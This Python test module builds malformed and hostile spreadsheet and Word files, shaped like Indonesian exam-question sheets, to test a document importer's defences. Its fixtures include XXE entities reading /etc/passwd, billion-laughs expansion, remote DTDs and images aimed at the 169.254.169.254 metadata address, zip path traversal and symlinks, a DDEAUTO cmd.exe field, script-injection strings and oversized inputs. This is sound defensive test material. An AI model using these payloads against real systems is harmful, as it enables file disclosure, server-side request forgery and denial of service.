"""Workbooks and documents that no honest program writes, by what is wrong with them. Small ones; large ones are in `large`."""

from __future__ import annotations

import io
import stat
import warnings
import zipfile
from collections.abc import Callable, Mapping
from pathlib import Path

from tests.corpus.office import (
    NUMBERED,
    OFFICE,
    SHEET,
    SPACES,
    WORD,
    document,
    inline_picture,
    packed,
    paragraph,
    relations,
    row,
    run,
    table,
    workbook,
)

HERE = Path(__file__).parent
IMAGES = sorted((HERE / "images").iterdir())
HEAD = row("Kode", "KUK", "Soal", "A", "B", "C", "D", "Kunci")
ITEM = row("S-1", "1.1", "Berapa 2 + 2?", "3", "4", "5", "6", "B")
QUESTION = "".join(map(paragraph, ("1. Berapa 2 + 2?", "a. 3", "b. 4", "Kunci: B")))
XXE = '<?xml version="1.0"?><!DOCTYPE x [<!ENTITY a SYSTEM "file:///etc/passwd">]>'
LAUGHS = '<?xml version="1.0"?><!DOCTYPE x [<!ENTITY a "ha">' + "".join(
    f'<!ENTITY {after} "{f"&{before};" * 10}">' for before, after in zip("abcdefgh", "bcdefghi", strict=True)
)
QUADRATIC = f'<?xml version="1.0"?><!DOCTYPE x [<!ENTITY a "{"a" * 9_000}">]>'
REMOTE = '<?xml version="1.0"?><!DOCTYPE x SYSTEM "http://169.254.169.254/x.dtd">'
PNG = (HERE / "images/plain.png").read_bytes()


def with_parts(content: bytes, parts: Mapping[str, bytes]) -> bytes:
    """Further parts at the end."""
    out = io.BytesIO(content)
    with zipfile.ZipFile(out, "a", zipfile.ZIP_DEFLATED) as archive, warnings.catch_warnings():
        warnings.simplefilter("ignore")  # a name that is there already
        for name, part in parts.items():
            archive.writestr(name, part)
    return out.getvalue()


def changed(content: bytes, name: str, part: bytes | str) -> bytes:
    """One part replaced."""
    with zipfile.ZipFile(io.BytesIO(content)) as archive:
        return packed({one: part if one == name else archive.read(one) for one in archive.namelist()})


def link(content: bytes) -> bytes:
    out = io.BytesIO(content)
    info = zipfile.ZipInfo("xl/media/passwd.png")
    info.external_attr = (stat.S_IFLNK | 0o777) << 16
    with zipfile.ZipFile(out, "a") as archive:
        archive.writestr(info, "/etc/passwd")
    return out.getvalue()


BOOK = workbook(HEAD + ITEM)
TEXT = document(QUESTION)
SHEET_PART, WORD_PART = "xl/worksheets/sheet1.xml", "word/document.xml"


def sheet(xml: str) -> bytes:
    return changed(BOOK, SHEET_PART, xml)


def strings(xml: str, *cells: str) -> bytes:
    return workbook(HEAD + row("S-1", "1.1", *cells, "3", "4", "5", "6", "B"), parts={"xl/sharedStrings.xml": xml})


def drawing(xml: str, *targets: tuple[str, str, str], **media: bytes) -> bytes:
    return workbook(
        HEAD + ITEM,
        after='<drawing r:id="d"/>',
        parts={
            "xl/worksheets/_rels/sheet1.xml.rels": relations(("d", "drawing", "../drawings/d.xml")),
            "xl/drawings/d.xml": f'<wsDr xmlns:r="{OFFICE}">{xml}</wsDr>',
            "xl/drawings/_rels/d.xml.rels": relations(*targets),
            **{f"xl/media/{name.replace('_', '.')}": content for name, content in media.items()},
        },
    )


def anchor(relation: str, corner: str = "<from><col>2</col><row>1</row></from>") -> str:
    return f'<oneCellAnchor>{corner}<pic><blip r:embed="{relation}"/></pic></oneCellAnchor>'


WORKBOOKS: dict[str, bytes] = {
    "macros": with_parts(BOOK, {"xl/vbaProject.bin": b"x"}),
    "links-to-other-books": with_parts(BOOK, {"xl/externalLinks/externalLink1.xml": b"<a/>"}),
    "book-in-a-book": with_parts(BOOK, {"xl/media/a.png": BOOK}),
    "symbolic-link": link(BOOK),
    "path-upwards": with_parts(BOOK, {"../../etc/cron.d/x": b"x"}),
    "absolute-path": with_parts(BOOK, {"/etc/passwd": b"x"}),
    "part-twice": with_parts(BOOK, {SHEET_PART: b"<other/>"}),
    "entity-of-a-file": sheet(
        XXE + f'<worksheet xmlns="{SHEET}"><sheetData><row><c><v>&a;</v></c></row></sheetData></worksheet>'
    ),
    "entity-in-strings": strings(XXE + f'<sst xmlns="{SHEET}"><si><t>&a;</t></si></sst>', '<c t="s"><v>0</v></c>'),
    "billion-laughs": sheet(LAUGHS + f']><worksheet xmlns="{SHEET}">&i;</worksheet>'),
    "quadratic-entities": sheet(QUADRATIC + f'<worksheet xmlns="{SHEET}">{"&a;" * 900}</worksheet>'),
    "remote-document-type": sheet(REMOTE + f'<worksheet xmlns="{SHEET}"/>'),
    "document-type-in-utf16": changed(
        BOOK, SHEET_PART, f'<?xml version="1.0" encoding="UTF-16"?>{XXE[21:]}<x/>'.encode("utf-16")
    ),
    "document-type-in-utf7": sheet('<?xml version="1.0" encoding="UTF-7"?>+ADwAIQ-DOCTYPE x+AD4-<x/>'),
    "no-xml": sheet("soal; a; b"),
    "cut-xml": sheet(f'<worksheet xmlns="{SHEET}"><sheetData><row><c>'),
    "deep-xml": sheet("<a>" * 5_000 + "</a>" * 5_000),
    "no-book": changed(BOOK, "xl/workbook.xml", "<x/>"),
    "no-sheet": packed({"xl/workbook.xml": f'<workbook xmlns="{SHEET}"/>'}),
    "nothing-but-a-folder": packed({"xl/": b""}),
    "relations-in-a-circle": changed(BOOK, "_rels/.rels", relations(("r", "officeDocument", "_rels/.rels"))),
    "relations-out-of-the-file": changed(
        BOOK, "_rels/.rels", relations(("r", "officeDocument", "../../../etc/passwd"))
    ),
    "hidden-sheet": changed(
        BOOK,
        "xl/workbook.xml",
        f'<workbook xmlns="{SHEET}" xmlns:r="{OFFICE}"><sheets><sheet name="x" state="veryHidden" r:id="s1"/></sheets></workbook>',
    ),
    "strict-form": changed(
        BOOK,
        SHEET_PART,
        f'<worksheet xmlns="http://purl.oclc.org/ooxml/spreadsheetml/main"><sheetData>{HEAD}{ITEM}</sheetData></worksheet>',
    ),
    "strings-that-are-not-there": workbook(
        HEAD + row(*(f'<c t="s"><v>{v}</v></c>' for v in ("0", "-1", "9" * 30, "x", "1e9", "")))
    ),
    "places-that-are-not-there": workbook(
        HEAD
        + '<row r="-5"><c r="A0"><v>1</v></c></row><row r="99999999999"><c r="ZZZZ9"><v>1</v></c></row><row r="x"><c r="C4"><v>1</v></c></row>'
    ),
    "numbers-that-are-none": workbook(
        HEAD + row(*(f"<c><v>{v}</v></c>" for v in ("1e400", "NaN", "-inf", "0x1F", "1_000", "٣", "", "9" * 400)))
    ),
    "kinds-that-are-none": workbook(
        HEAD + row(*(f'<c t="{t}"><v>1</v></c>' for t in ("zz", "b", "d", "e", "s", "str", "n", "inlineStr")))
    ),
    "merged-everything": workbook(
        HEAD + ITEM, after='<mergeCells><mergeCell ref="A1:XFD1048576"/><mergeCell ref="C2:C1048576"/></mergeCells>'
    ),
    "merged-nonsense": workbook(
        HEAD + ITEM,
        after='<mergeCells><mergeCell/><mergeCell ref="Z9:A1"/><mergeCell ref="A:B"/><mergeCell ref=":"/></mergeCells>',
    ),
    "formulas": workbook(HEAD + row(*('<c><f>WEBSERVICE("http://example.org")</f><v>1</v></c>' for _ in range(8)))),
    "dates-as-keys": workbook(
        HEAD + row("S-1", '<c s="1"><v>45000</v></c>', "x?", 1, 2, 3, 4, '<c s="1"><v>1e300</v></c>'),
        parts={
            "xl/styles.xml": f'<styleSheet xmlns="{SHEET}"><numFmts><numFmt numFmtId="200" formatCode="[$-421]dd\\ mmm"/></numFmts><cellXfs><xf/><xf numFmtId="200"/></cellXfs></styleSheet>'
        },
    ),
    "styles-that-are-none": workbook(
        HEAD + '<row><c s="99999"><v>1</v></c><c s="-1"><v>2</v></c></row>', parts={"xl/styles.xml": "<x/>"}
    ),
    "two-headings": workbook(HEAD + HEAD + ITEM),
    "doubled-columns": workbook(row("Soal", "Soal", "A", "A", "B", "Kunci") + row("x", "y", 1, 2, 3, "A")),
    "escapes": strings(
        f'<sst xmlns="{SHEET}"><si><t>a_x0000_b_x000D_c_xD800_d_x202E_e_xFFFF_</t></si></sst>', '<c t="s"><v>0</v></c>'
    ),
    "scripts": workbook(
        HEAD + row("S-1", "1.1", *['<img src=x onerror=alert(1)>"><svg/onload=alert(2)>'] * 3, "x", "y", "A")
    ),
    "unclosed-elements": workbook(
        HEAD + row("S-1", "1.1", "<a " * 3_000, "<b>" * 3_000, "<ul><li>" * 2_000, "<div>" * 3_000, "x", "A")
    ),
    "runs": strings(
        f'<sst xmlns="{SHEET}"><si><r/><r><rPr><b/><vertAlign val="x"/></rPr><t>&lt;script&gt;</t></r><rPh><t>z</t></rPh></si></sst>',
        '<c t="s"><v>0</v></c>',
    ),
    "drawing-of-nothing": drawing(anchor("x", "")),
    "drawing-of-itself": drawing(anchor("x"), ("x", "image", "d.xml")),
    "drawing-of-an-address": drawing(anchor("x"), ("x", "image", "http://169.254.169.254/a.png")),
    "drawing-far-away": drawing(
        anchor("x", "<from><col>-9</col><row>99999999999999</row></from>"), ("x", "image", "../media/a.png"), a_png=PNG
    ),
    "drawing-a-thousand-times": drawing(anchor("x") * 1_000, ("x", "image", "../media/a.png"), a_png=PNG),
    "no-workbook-but-a-document": changed(BOOK, "xl/workbook.xml", f"<w:document {SPACES}/>"),
    **{
        f"picture-{path.name}": drawing(
            anchor("x"), ("x", "image", f"../media/{path.name}"), **{path.name.replace(".", "_"): path.read_bytes()}
        )
        for path in IMAGES
    },
}


def equation(inside: str) -> bytes:
    return document(
        paragraph("1. Berapa?", f"<m:oMath>{inside}</m:oMath>") + "".join(map(paragraph, ("a. 3", "b. 4", "Kunci: B")))
    )


def picture(target: str, **parts: bytes) -> bytes:
    return document(
        paragraph("1. Apa?", inline_picture("p")) + QUESTION[QUESTION.index("</w:p>") + 6 :],
        targets=(("p", "image", target),),
        parts={f"word/media/{name.replace('_', '.')}": content for name, content in parts.items()},
    )


DOCUMENTS: dict[str, bytes] = {
    "macros": with_parts(TEXT, {"word/vbaProject.bin": b"x"}),
    "document-in-a-document": with_parts(TEXT, {"word/media/a.png": TEXT}),
    "entity-of-a-file": changed(
        TEXT, WORD_PART, f"{XXE}<w:document {SPACES}><w:body><w:p><w:r><w:t>&a;</w:t></w:r></w:p></w:body></w:document>"
    ),
    "billion-laughs": changed(TEXT, WORD_PART, f"{LAUGHS}]><w:document {SPACES}>&i;</w:document>"),
    "remote-document-type": changed(TEXT, WORD_PART, REMOTE + "<x/>"),
    "no-body": changed(TEXT, WORD_PART, f"<w:document {SPACES}/>"),
    "no-document": packed({"word/other.xml": "<x/>"}),
    "cut-xml": changed(TEXT, WORD_PART, f"<w:document {SPACES}><w:body><w:p>"),
    "wrong-bytes": changed(
        TEXT,
        WORD_PART,
        f"<w:document {SPACES}><w:body><w:p><w:r><w:t>".encode()
        + b"\xff\xfe\xc0</w:t></w:r></w:p></w:body></w:document>",
    ),
    "remote-template": document(QUESTION, targets=(("t", "attachedTemplate", "http://example.org/x.dotm"),)),
    "page-of-another-kind": document(
        '<w:altChunk r:id="h"/>' + QUESTION,
        parts={"word/h.html": "<script>alert(1)</script>"},
        targets=(("h", "aFChunk", "h.html"),),
    ),
    "field-that-runs": document(
        paragraph(
            "1. Apa ",
            '<w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText>DDEAUTO c:\\\\cmd.exe</w:instrText></w:r>',
            "ini?",
        )
        + QUESTION
    ),
    "address-that-runs": document(
        paragraph('<w:hyperlink r:id="h"><w:r><w:t>1. Apa?</w:t></w:r></w:hyperlink>') + QUESTION,
        targets=(("h", "hyperlink", "javascript:alert(1)"),),
    ),
    "picture-of-a-file": picture("file:///etc/passwd"),
    "picture-upwards": picture("../../../../etc/passwd"),
    "picture-of-an-address": picture("http://169.254.169.254/a.png"),
    "picture-of-the-document": picture("document.xml"),
    **{
        f"picture-{path.name}": picture(f"media/{path.name}", **{path.name.replace(".", "_"): path.read_bytes()})
        for path in IMAGES
    },
    "tables-in-tables": document(
        paragraph("1. Apa?") + "<w:tbl><w:tr><w:tc>" * 40 + "<w:p/>" + "</w:tc></w:tr></w:tbl>" * 40 + QUESTION
    ),
    "deep-xml": document("<w:ins>" * 400 + "</w:ins>" * 400 + QUESTION),
    "wide-cells": document(
        table(("Soal", "A", "B", "Kunci"))
        + '<w:tbl><w:tr><w:tc><w:tcPr><w:gridSpan w:val="99999999"/></w:tcPr><w:p/></w:tc></w:tr></w:tbl>'
        + QUESTION
    ),
    "cells-that-go-on-from-nothing": document(table(("+", "+"), ("+", "x")) + QUESTION),
    "rows-without-cells": document("<w:tbl><w:tr/><w:tr/></w:tbl><w:tbl/>" + QUESTION),
    "list-that-is-not-there": document(paragraph("Apa?", list_id=77, level=9) + QUESTION),
    "list-far-down": document(paragraph("Apa?", list_id=1, level=8) + QUESTION, **NUMBERED),
    "list-from-nowhere": document(
        paragraph("Apa?", list_id=1) + QUESTION,
        parts={
            "word/numbering.xml": f'<w:numbering xmlns:w="{WORD}"><w:num w:numId="1"/><w:num/><w:abstractNum><w:lvl w:ilvl="99"/></w:abstractNum></w:numbering>'
        },
        targets=(("n", "numbering", "numbering.xml"),),
    ),
    "styles-in-a-circle": document(
        '<w:p><w:pPr><w:pStyle w:val="a"/></w:pPr><w:r><w:t>1. Apa?</w:t></w:r></w:p>' + QUESTION,
        parts={
            "word/styles.xml": f'<w:styles xmlns:w="{WORD}"><w:style w:styleId="a"><w:basedOn w:val="b"/></w:style><w:style w:styleId="b"><w:basedOn w:val="a"/></w:style></w:styles>'
        },
        targets=(("s", "styles", "styles.xml"),),
    ),
    "equation-deep": equation("<m:e>" * 150 + "</m:e>" * 150),
    "equation-long": equation("<m:r><m:t>x+</m:t></m:r>" * 900),
    "equation-of-braces": equation("<m:r><m:t>{{{}\\)\\(&lt;script&gt;</m:t></m:r>" * 9),
    "equation-of-nothing": equation("<m:f/><m:rad/><m:nary/><m:d/><m:m/><m:sSup/>"),
    "equation-unknown": equation("<m:sPre/>"),
    "numbers-too-large": document(
        "".join(map(paragraph, ("9999. Apa?", "99999999. Apa?", "Soal 1" * 50, "a. 3", "b. 4", "Kunci: B")))
    ),
    "only-options": document("".join(map(paragraph, ("a. 3", "b. 4", "c. 5", "a. 6", "Kunci: B")))),
    "only-keys": document("".join(map(paragraph, ("Kunci jawaban", "1. B", "2. C", "Kunci:", "D")))),
    "options-twice": document("".join(map(paragraph, ("1. Apa?", "a. 3", "a. 4", "b. 5", "f. 6", "g. 7", "Kunci: B")))),
    "right-to-left-override": document(QUESTION.replace("Berapa", "Ber\u202eapa\u2066").replace("b. 4", "b. \u202e4")),
    "hidden-key": document(QUESTION.replace("</w:p>", run("Kunci: A", "<w:vanish/>") + "</w:p>", 1)),
    "signs-of-control": document(QUESTION.replace("Berapa", "Ber&#x85;apa&#x200B;&#xFFFD;")),
    "text-box-around-it-all": document(
        f"<w:p><w:r><w:pict><v:textbox><w:txbxContent>{QUESTION}</w:txbxContent></v:textbox></w:pict></w:r></w:p>"
    ),
    "alternatives": document(
        f"<w:p><w:r><mc:AlternateContent><mc:Choice><w:t>1. Apa?</w:t></mc:Choice><mc:Fallback><w:t>2. Lain?</w:t></mc:Fallback></mc:AlternateContent></w:r></w:p>{QUESTION}"
    ),
}


def _blanks() -> bytes:
    return workbook(HEAD + "<row>" + "<c/>" * 2_000_000 + "</row>")


LARGE: dict[str, Callable[[], bytes]] = {
    "zeros": lambda: packed({"xl/workbook.xml": "<x/>", "xl/media/a.bin": bytes(312_000_000)}),
    "zeros-in-a-document": lambda: packed({"word/document.xml": bytes(99_000_000)}),
    "a-thousand-parts": lambda: with_parts(BOOK, {f"xl/x{n}": b"" for n in range(1_001)}),
    "eleven-megabytes": lambda: bytes(11_000_000),
    "a-million-columns": lambda: f"{';'.join(map(str, range(1_000_000)))}\n".encode(),
    "a-million-cells-in-a-row": _blanks,
    "a-million-rows": lambda: workbook(HEAD + "".join(f"<row><c><v>{n}</v></c></row>" for n in range(900_000))),
    "a-million-strings": lambda: strings(
        f'<sst xmlns="{SHEET}">{"".join(f"<si><t>{n * 7919}</t></si>" for n in range(1_200_000))}</sst>'
    ),
    "many-combining-marks": lambda: workbook(HEAD + row("S-1", "1.1", "Z" + "\u0300\u0489" * 200_000, 1, 2, 3, 4, "A")),
    "many-spaces": lambda: document(paragraph(f"a.{' ' * 600_000}x") + paragraph("\t" * 300_000 + "b") + QUESTION),
    "many-brackets": lambda: document(paragraph("1. " + "(" * 700_000) + paragraph(run("<" * 50_000)) + QUESTION),
    "many-paragraphs": lambda: document("<w:p/>" * 160_000 + QUESTION),
    "many-runs": lambda: document("<w:p>" + "<w:r><w:t>1. a. </w:t></w:r>" * 30_000 + "</w:p>" + QUESTION),
    "many-questions": lambda: document(QUESTION * 3_000),
    "more-questions-than-a-file-may-hold": lambda: b"Soal;A;B;Kunci\n" + b"Apa?;1;2;A\n" * 10_500,
    "a-hundred-thousand-relations": lambda: document(
        QUESTION, targets=tuple((f"x{n}", "image", f"m/{n}.png") for n in range(100_000))
    ),
    "names-longer-than-a-page": lambda: with_parts(BOOK, {f"{'x' * 60_000}{n}": b"" for n in range(120)}),
}
